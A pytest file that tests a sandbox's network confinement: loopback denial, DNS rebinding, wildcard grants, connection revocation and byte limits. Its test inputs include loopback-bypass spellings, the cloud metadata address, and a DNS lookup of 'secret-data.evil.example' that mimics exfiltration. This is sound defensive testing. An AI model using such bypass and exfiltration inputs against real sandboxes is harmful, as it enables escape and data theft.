"""Connections through the door, with live services on the host as witnesses."""

from __future__ import annotations

import socket
import time
from collections.abc import Sequence

import pytest

from sandbox_kernel.trusted.confine.level import Level

from . import conftest
from .conftest import Raised, Start, Worker, World
from .services import TALK, Echo, names


def refused(worker: Worker, source: str) -> Raised:
    """The refusal of a connection: always a PermissionError."""
    return conftest.refused(worker, source, ("PermissionError",))


def test_nothing_is_reached_without_a_grant(
    world: World, start: Start, level: Level, echo: Echo
) -> None:
    worker = start(world.rights(""), level)
    refused(worker, f"socket.create_connection(('127.0.0.1', {echo.port}), 3)")
    refused(worker, f"socket.create_connection(('::1', {echo.port}), 3)")
    refused(worker, f"s = socket.socket(); s.settimeout(3); s.connect(('127.0.0.1', {echo.port}))")
    assert echo.contacts == 0
    assert len(worker.denied) == 3
    # The control: the same from outside the walls.
    socket.create_connection(("127.0.0.1", echo.port), 3).close()
    assert worker.value("1 + 1") == 2


def test_datagrams_and_raw_sockets_are_not_given(world: World, start: Start, level: Level) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as witness:
        witness.bind(("127.0.0.1", 0))
        witness.setblocking(False)
        worker = start(world.sockets('connect = "allowed.test:443"'), level)
        to = f"('127.0.0.1', {witness.getsockname()[1]})"
        refused(worker, f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', {to})")
        for kind in ("AF_INET, socket.SOCK_RAW", "AF_NETLINK, socket.SOCK_RAW", "AF_PACKET"):
            with pytest.raises(Raised):
                worker.run(f"socket.socket(socket.{kind})")
        with pytest.raises(BlockingIOError):
            witness.recv(100)


@pytest.mark.parametrize(
    "host", ["2130706433", "0x7f000001", "127.1", "0177.0.0.1", "::ffff:127.0.0.1", "0.0.0.0", "::"]
)
def test_a_wildcard_is_no_grant_of_loopback(
    world: World, start: Start, level: Level, echo: Echo, host: str
) -> None:
    worker = start(world.sockets('connect = "*:*"'), level)
    refused(worker, f"socket.create_connection(({host!r}, {echo.port}), 3)")
    assert echo.contacts == 0


def test_fast_open_sends_nothing(world: World, start: Start, level: Level, echo: Echo) -> None:
    worker = start(world.rights(""), level)
    with pytest.raises(Raised):
        worker.run(f"socket.socket().sendto(b'x', 0x20000000, ('127.0.0.1', {echo.port}))")
    assert echo.contacts == 0


def test_a_granted_name_is_resolved_and_connected(
    world: World, start: Start, level: Level, echo: Echo
) -> None:
    rights = world.sockets(
        f'connect = "allowed.test:{echo.port}"', f'connect = "127.0.0.1:{echo.port}"'
    )
    worker = start(rights, level, resolver=names(allowed_test=["127.0.0.1"]))
    assert worker.value(f"bool(socket.getaddrinfo('allowed.test', {echo.port}))") is True
    worker.run(f"s = socket.create_connection(('allowed.test', {echo.port}), 5)")
    assert worker.run(TALK) == "HELLO"
    assert worker.value("s.getpeername()[1]") == echo.port
    assert worker.value("socket.gethostbyname('allowed.test')").startswith("198.18.")
    with pytest.raises(Raised) as caught:
        worker.run(f"socket.getaddrinfo('other.test', {echo.port})")
    assert caught.value.kind == "gaierror"  # The worker's wrapper words it; see denials.
    assert any("other.test" in text for text in worker.denied)
    refused(worker, f"socket.create_connection(('allowed.test', {echo.port + 1}), 5)")


def test_a_wildcard_name_is_answered_and_the_rest_is_not(
    world: World, start: Start, level: Level, echo: Echo
) -> None:
    asked: list[str] = []

    def resolve(name: str) -> Sequence[str]:
        asked.append(name)
        return ["127.0.0.1"]

    rights = world.sockets(f'connect = "*.test:{echo.port}"\nprivate = true')
    worker = start(rights, level, resolver=resolve)
    worker.run(f"s = socket.create_connection(('a.b.test', {echo.port}), 5)")
    assert worker.run(TALK) == "HELLO"
    with pytest.raises(Raised):
        worker.run("socket.getaddrinfo('secret-data.evil.example', 80)")
    assert asked == ["a.b.test"]


@pytest.mark.parametrize("address", ["169.254.169.254", "10.0.0.5", "127.0.0.1", "::1", "fd00::1"])
def test_a_name_does_not_lead_to_an_inner_address(
    world: World, start: Start, level: Level, echo: Echo, address: str
) -> None:
    rights = world.sockets(f'connect = "nice.test:{echo.port}"')
    worker = start(rights, level, resolver=names(nice_test=[address]))
    begun = time.monotonic()
    refused(worker, f"socket.create_connection(('nice.test', {echo.port}), 5)")
    assert time.monotonic() - begun < 2
    assert echo.contacts == 0
    assert any("nice.test" in text and address in text for text in worker.denied)


def test_the_address_that_was_checked_is_the_one_that_is_connected(
    world: World, start: Start, level: Level, echo: Echo
) -> None:
    """Rebinding: the second answer for the same name is an inner address."""
    answers = [["192.0.2.1"], ["127.0.0.1"], ["127.0.0.1"]]
    rights = world.sockets(f'connect = "moving.test:{echo.port}"')
    worker = start(rights, level, resolver=lambda name: answers.pop(0))
    for _ in range(2):
        with pytest.raises(Raised):
            worker.run(
                f"s = socket.socket(); s.settimeout(0.3); s.connect(('moving.test', {echo.port}))"
            )
    assert echo.contacts == 0


def test_localhost_means_all_of_its_spellings(
    world: World, start: Start, level: Level, echo: Echo
) -> None:
    worker = start(world.sockets(f'connect = "localhost:{echo.port}"'), level)
    for host in ("localhost", "127.0.0.1", "::1"):
        outcome = worker.run(
            "try:\n"
            f"    s = socket.create_connection(({host!r}, {echo.port}), 3); it = 'ok'\n"
            "except ConnectionRefusedError: it = 'ok'"
        )
        assert outcome == "ok"
    assert echo.has_contacts(2)


def test_ipv6_is_connected(world: World, start: Start, level: Level) -> None:
    if not socket.has_ipv6:
        pytest.skip("this host has no IPv6")
    service = Echo("::1")
    try:
        rights = world.sockets(f'connect = "six.test:{service.port}"\nprivate = true')
        worker = start(rights, level, resolver=names(six_test=["::1"]))
        worker.run(f"s = socket.create_connection(('six.test', {service.port}), 5)")
        assert worker.run(TALK) == "HELLO"
    finally:
        service.close()


def test_a_revoked_connection_is_shut_down(
    world: World, start: Start, level: Level, echo: Echo
) -> None:
    worker = start(world.sockets(f'connect = "localhost:{echo.port}"'), level)
    worker.run(f"s = socket.create_connection(('127.0.0.1', {echo.port}), 5)")
    assert worker.run(TALK) == "HELLO"
    worker.send("it = s.recv(9)")
    taken = worker.follow(world.rights(""))
    assert taken.shut == (f"127.0.0.1:{echo.port}",)
    assert worker.answer() == "b''"
    assert echo.ended.wait(5)
    refused(worker, f"socket.create_connection(('127.0.0.1', {echo.port}), 5)")


def test_other_connections_survive_a_revocation(
    world: World, start: Start, level: Level, echo: Echo
) -> None:
    other = Echo()
    try:
        both = [f'connect = "localhost:{port}"' for port in (echo.port, other.port)]
        worker = start(world.sockets(*both), level)
        worker.run(f"s = socket.create_connection(('127.0.0.1', {echo.port}), 5)")
        worker.run(f"t = socket.create_connection(('127.0.0.1', {other.port}), 5)")
        worker.follow(world.sockets(both[0]))
        assert worker.run(TALK) == "HELLO"
        assert worker.value("t.recv(9)") == "b''"
    finally:
        other.close()


def test_bytes_of_a_connection_are_limited(
    world: World, start: Start, level: Level, echo: Echo
) -> None:
    line = f'connect = "localhost:{echo.port}"\nmax_bytes = "1000 B"'
    worker = start(world.sockets(line), level)
    worker.run(f"s = socket.create_connection(('127.0.0.1', {echo.port}), 5)")
    assert worker.run(TALK) == "HELLO"
    got = worker.run(
        "n = 0\n"
        "try:\n"
        "    s.sendall(b'x' * 5000)\n"
        "    while d := s.recv(4096): n += len(d)\n"
        "except OSError: pass\n"
        "it = n"
    )
    assert got <= 990
    assert any("max_bytes" in text for text in worker.denied)
